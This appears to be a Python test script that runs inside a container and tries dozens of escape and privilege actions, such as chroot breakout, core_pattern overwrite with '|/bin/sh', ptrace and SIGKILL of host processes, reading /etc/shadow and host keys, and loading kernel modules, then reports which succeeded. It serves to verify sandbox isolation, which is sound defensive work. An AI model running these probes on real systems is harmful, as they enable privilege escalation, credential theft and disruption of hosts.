# ruff: noqa: SIM115 - whoever attacks does not tidy up
"""What a hostile container tries. Runs inside one, with the standard library only; prints what it achieved.

Each attack is a function that returns a text when it got somewhere, and raises or returns nothing when it did not.
`sys.argv[1]` is JSON: what lies outside (paths, a process, a socket's name).
"""

import ctypes
import json
import os
import signal
import socket
import struct
import subprocess
import sys
from collections.abc import Callable

LIBC = ctypes.CDLL(None, use_errno=True)
OUTSIDE = json.loads(sys.argv[1])
ATTACKS: dict[str, Callable[[], object]] = {}


def attack(function: Callable[[], object]) -> Callable[[], object]:
    ATTACKS[function.__name__] = function
    return function


def call(result: int) -> str:
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return f"answered {result}"


@attack
def read_the_platforms_keys() -> object:
    return open(OUTSIDE["key"]).read()


@attack
def read_another_pods_file() -> object:
    return open(OUTSIDE["neighbour"]).read()


@attack
def write_into_the_platforms_folder() -> object:
    path = os.path.join(os.path.dirname(OUTSIDE["key"]), "planted")
    open(path, "w").write("x")
    return path


@attack
def uncover_the_platforms_folder_by_umount() -> object:
    call(LIBC.umount2(os.path.dirname(OUTSIDE["key"]).encode(), 2))
    return open(OUTSIDE["key"]).read()


@attack
def uncover_the_platforms_folder_in_a_user_namespace() -> object:
    if os.fork() == 0:
        try:
            call(LIBC.unshare(0x10000000 | 0x20000))
            call(LIBC.umount2(os.path.dirname(OUTSIDE["key"]).encode(), 2))
            os._exit(0 if open(OUTSIDE["key"]).read() else 1)
        except OSError:
            os._exit(1)
    return os.WEXITSTATUS(os.wait()[1]) == 0


@attack
def see_processes_of_the_machine() -> object:
    pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    return [pid for pid in pids if pid == OUTSIDE["pid"]]


@attack
def signal_a_process_of_the_machine() -> object:
    os.kill(OUTSIDE["pid"], signal.SIGKILL)
    return "killed"


@attack
def trace_a_process_of_the_machine() -> object:
    return call(LIBC.ptrace(16, OUTSIDE["pid"], 0, 0))


@attack
def trace_the_first_process() -> object:
    return call(LIBC.ptrace(16, 1, 0, 0))


@attack
def open_the_first_process_program_for_writing() -> object:
    return os.open("/proc/1/exe", os.O_WRONLY)


@attack
def open_files_of_the_first_process() -> object:
    return os.listdir("/proc/1/fd")


@attack
def read_memory_of_the_first_process() -> object:
    return open("/proc/1/mem", "rb")


@attack
def enter_namespaces_of_the_first_process() -> object:
    return call(LIBC.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0))


@attack
def mount_something() -> object:
    return call(LIBC.mount(b"none", b"/mnt", b"tmpfs", 0, None))


@attack
def mount_by_the_new_interface() -> object:
    return call(LIBC.syscall(430, b"tmpfs", 0))


@attack
def unshare_a_user_namespace() -> object:
    return call(LIBC.unshare(0x10000000))


@attack
def clone_into_a_user_namespace() -> object:
    pid = LIBC.syscall(56 if os.uname().machine == "x86_64" else 220, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return call(pid)


@attack
def chroot_out() -> object:
    os.mkdir("/tmp/jail")
    above = os.open("/", os.O_RDONLY)
    os.chroot("/tmp/jail")
    os.fchdir(above)
    for _ in range(32):
        os.chdir("..")
    os.chroot(".")
    return open(OUTSIDE["key"]).read()


@attack
def make_a_device() -> object:
    os.mknod("/tmp/disk", 0o600 | 0o060000, os.makedev(*OUTSIDE["disk"]))
    return os.open("/tmp/disk", os.O_RDONLY)


@attack
def use_a_device_of_the_machine() -> object:
    wanted = {"mem", "kmem", "kmsg", "port", "vda", "sda", "nvme0n1", "fuse", "kvm", "loop-control"}
    return sorted(wanted & set(os.listdir("/dev")))


@attack
def open_a_raw_socket() -> object:
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attack
def open_a_packet_socket() -> object:
    return socket.socket(socket.AF_PACKET, socket.SOCK_RAW)


@attack
def connect_to_an_abstract_socket_of_the_machine() -> object:
    client = socket.socket(socket.AF_UNIX)
    client.connect("\0" + OUTSIDE["abstract"])
    return client


@attack
def connect_to_a_socket_file_of_the_platform() -> object:
    client = socket.socket(socket.AF_UNIX)
    client.connect(OUTSIDE["socket"])
    return client


@attack
def set_a_kernel_setting() -> object:
    open("/proc/sys/kernel/core_pattern", "w").write("|/bin/sh")
    return "set"


@attack
def set_the_hosts_name() -> object:
    socket.sethostname("owned")
    return "set"


@attack
def press_the_magic_key() -> object:
    open("/proc/sysrq-trigger", "w").write("h")
    return "pressed"


@attack
def write_to_sysfs() -> object:
    path = "/sys/kernel/mm/transparent_hugepage/enabled"
    open(path, "w").write(open(path).read().split("[")[1].split("]")[0])
    return "written"


@attack
def read_the_kernels_log() -> object:
    return call(LIBC.klogctl(3, ctypes.create_string_buffer(64), 64))


@attack
def load_a_key() -> object:
    return call(LIBC.syscall(248 if os.uname().machine == "x86_64" else 217, b"user", b"x", b"y", 1, -2))


@attack
def load_a_kernel_module() -> object:
    return call(LIBC.syscall(175 if os.uname().machine == "x86_64" else 105, b"x", 1, b""))


@attack
def load_a_bpf_program() -> object:
    return call(LIBC.syscall(321 if os.uname().machine == "x86_64" else 280, 0, ctypes.create_string_buffer(128), 128))


@attack
def set_up_an_io_ring() -> object:
    return call(LIBC.syscall(425, 4, ctypes.create_string_buffer(248)))


@attack
def open_a_file_by_handle() -> object:
    handle = ctypes.create_string_buffer(struct.pack("Ii", 8, 1) + struct.pack("II", 2, 0), 24)
    return call(LIBC.syscall(304 if os.uname().machine == "x86_64" else 265, os.open("/", os.O_RDONLY), handle, 0))


@attack
def set_the_clock() -> object:
    return call(LIBC.syscall(164 if os.uname().machine == "x86_64" else 170, struct.pack("qq", 1, 1), None))


@attack
def write_to_the_machines_files() -> object:
    open("/etc/planted-by-a-pod", "w").write("x")
    open("/usr/planted-by-a-pod", "w").write("x")
    return ""  # allowed here: the test looks whether the machine has them


@attack
def gain_rights_by_a_set_user_id_program() -> object:
    with open("/tmp/id", "wb") as copy:
        copy.write(open("/usr/bin/id", "rb").read())
    os.chmod("/tmp/id", 0o4755)
    before = os.getuid()
    if before == 0:
        return None
    return subprocess.run(["/tmp/id", "-u"], capture_output=True, text=True).stdout.strip() == "0"


@attack
def more_capabilities_than_a_container_has() -> object:
    for line in open("/proc/self/status"):
        if line.startswith(("CapBnd", "CapEff", "CapPrm")):
            bits = int(line.split()[1], 16)
            too_many = [c for c in (2, 12, 13, 16, 17, 19, 21, 22, 24, 25, 27, 38, 39) if bits >> c & 1]
            if too_many:
                return too_many
    return None


@attack
def find_control_groups() -> object:
    return [name for name in os.listdir("/sys/fs/cgroup") if name != "unified"]


@attack
def read_the_machines_shadow_passwords() -> object:
    return open("/etc/shadow").read()


@attack
def follow_the_machines_environment() -> object:
    return [part for part in open("/proc/1/environ", "rb").read().split(b"\0") if part]


def main() -> None:
    achieved = {}
    for name, try_it in ATTACKS.items():
        pid = os.fork()  # each on its own: one may change what the next one sees
        if pid == 0:
            try:
                got = try_it()
            except (OSError, ValueError, subprocess.SubprocessError):
                got = None
            os._exit(1 if got else 0)
        achieved[name] = os.waitpid(pid, 0)[1] != 0
    print(json.dumps(achieved))


main()
